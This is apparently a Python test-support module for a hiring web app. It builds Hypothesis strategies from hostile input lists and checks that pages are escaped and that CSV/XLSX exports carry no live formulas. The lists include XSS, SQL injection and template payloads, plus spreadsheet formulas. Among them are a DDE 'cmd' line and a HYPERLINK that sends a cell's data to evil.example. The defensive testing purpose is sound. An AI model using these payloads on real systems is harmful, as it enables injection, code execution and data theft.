"""What a hostile user types: payload lists, hypothesis strategies, and the checks on what comes back."""

import csv
import html
import io
import re
from datetime import date

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from hiring.export import FORMULA_STARTS

# A fixed profile: CI runs the same examples every time (derandomize) and writes no .hypothesis folder.
settings.register_profile(
    "hostile",
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=True,
    # No shrinking: each example is a few requests, and shrinking a failure would replay hundreds.
    phases=(Phase.explicit, Phase.reuse, Phase.generate),
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
HOSTILE = settings.get_profile("hostile")


def examples(count: int) -> settings:
    """The hostile profile with ``count`` examples."""
    return settings(HOSTILE, max_examples=count)


HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    '<a href="javascript:alert(3)">x</a>',
]
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
SQL_PAYLOADS = [
    "' OR '1'='1",
    "'; DROP TABLE candidate; --",
    "1; SELECT pg_sleep(5)--",
    '" OR 1=1 --',
    "%' OR name LIKE '%",
    "_%\\",
]
FORMULA_PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
CONTROL_CHARACTERS = ["\x00", "\r", "\n", "\r\n", "\x1b[31m", "\u202e", "\u202d", "\u2066", "\ufeff", "\u200b", "\x7f"]
TEMPLATE_PAYLOADS = ["{{7*7}}", "{% raw %}", "${7*7}", "%s%s%n"]
MALFORMED_DATES = [
    "2024-02-30", "2023-13-01", "0000-00-00", "9999-12-31", "0001-01-01", "31/12/2024", "2024-1-1", "yesterday",
    "2024-02-29T25:61", "1e9", "-2024-01-01", "２０２４-０１-０１", "2024-01-01' OR '1'='1", "",
]  # fmt: skip
MALFORMED_NUMBERS = [
    "-1", "1e309", "NaN", "inf", "-0", "1,000", "0x10", "12abc", "99999999999999999999999999", "١٢٣", "1.5",
    "1" * 400, " 7 ", "",
]  # fmt: skip
EVERY_PAYLOAD = [
    *HTML_PAYLOADS, *URL_PAYLOADS, *SQL_PAYLOADS, *FORMULA_PAYLOADS, *CONTROL_CHARACTERS, *TEMPLATE_PAYLOADS,
]  # fmt: skip

# Any character a browser can send: every code point except surrogates (UTF-8 cannot carry them).
any_character = st.characters(exclude_categories=("Cs",))
random_text = st.text(any_character, max_size=30)


@st.composite
def hostile_text(draw, long: bool = True) -> str:
    """A text field's value: a payload wrapped in random unicode, sometimes far longer than any column."""
    parts = [draw(random_text), draw(st.sampled_from(EVERY_PAYLOAD)), draw(random_text)]
    if draw(st.booleans()):
        parts.insert(0, draw(st.sampled_from(EVERY_PAYLOAD)))  # e.g. a formula or a bidi override first
    if long and draw(st.integers(0, 9)) == 0:
        parts.append(draw(st.sampled_from(["x", "é", "😀", "<"])) * draw(st.sampled_from([300, 2100, 70_000])))
    return "".join(parts)


def hostile_or(valid, *bad: list[str]):
    """A structured field's value: usually ``valid`` (so that records get saved), else a malformed one."""
    return st.one_of(st.just(valid), st.just(valid), st.sampled_from([value for values in bad for value in values]))


def hostile_date(valid: date | None = None):
    """A date field: a real ISO date, or a malformed one."""
    return hostile_or((valid or date(2024, 3, 1)).isoformat(), MALFORMED_DATES, SQL_PAYLOADS)


def hostile_number(valid: int | str = 1):
    """A number field: a sensible number, or a malformed one."""
    return hostile_or(str(valid), MALFORMED_NUMBERS, SQL_PAYLOADS)


def hostile_choice(valid: str):
    """A select field: one of its choices, or something that is not a choice."""
    return hostile_or(valid, ["", "\x00", "NOT_A_CHOICE", "99999999999999999999999"], HTML_PAYLOADS, SQL_PAYLOADS)


# Markup a payload would add to the page if a value were rendered unescaped.
DANGEROUS_MARKUP = [
    "<script>alert",
    "<img src=x onerror",
    "<svg onload",
    "</textarea><script>",
    '<a href="javascript:',
]
URL_ATTRIBUTE = re.compile(
    r"""\s(?:href|src|action|formaction|xlink:href)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE
)
# Browsers drop tabs, newlines and leading spaces/control characters from a URL before reading its scheme.
URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


def script_urls(page: str) -> list[str]:
    """Return the link, source and form targets of a page that would run a script."""
    urls = (
        html.unescape(next(value for value in match.groups() if value is not None))
        for match in URL_ATTRIBUTE.finditer(page)
    )
    return [url for url in urls if URL_NOISE.sub("", url).lower().startswith(SCRIPT_SCHEMES)]


def assert_shown_safely(page: str, sent: list[str]) -> None:
    """The page has no markup from the values sent, and no link or source that runs a script."""
    for value in sent:
        for markup in DANGEROUS_MARKUP:
            if markup in value:
                assert markup not in page, f"{markup!r} from {value[:200]!r} is in the page unescaped"
    assert script_urls(page) == [], "a script URL is rendered as a link, source or form target"


def assert_exports_neutralised(client) -> None:
    """The pool's CSV and XLSX exports have no cell a spreadsheet would run as a formula."""
    every = "&".join(f"columns={key}" for key in ("name", "email", "company", "title", "tags", "notes", "phone"))
    for path in ("/candidates/export.csv", f"/exports/pool/file?format=csv&{every}"):
        text = client.get(path).get_data(as_text=True).lstrip("\ufeff")
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                assert not value.startswith(FORMULA_STARTS), (path, value)
    workbook = load_workbook(io.BytesIO(client.get(f"/exports/pool/file?format=xlsx&{every}").data))
    for row in workbook.active.iter_rows():
        for value in row:
            assert value.data_type != "f", value.value
            assert not (isinstance(value.value, str) and value.value.startswith(FORMULA_STARTS)), value.value
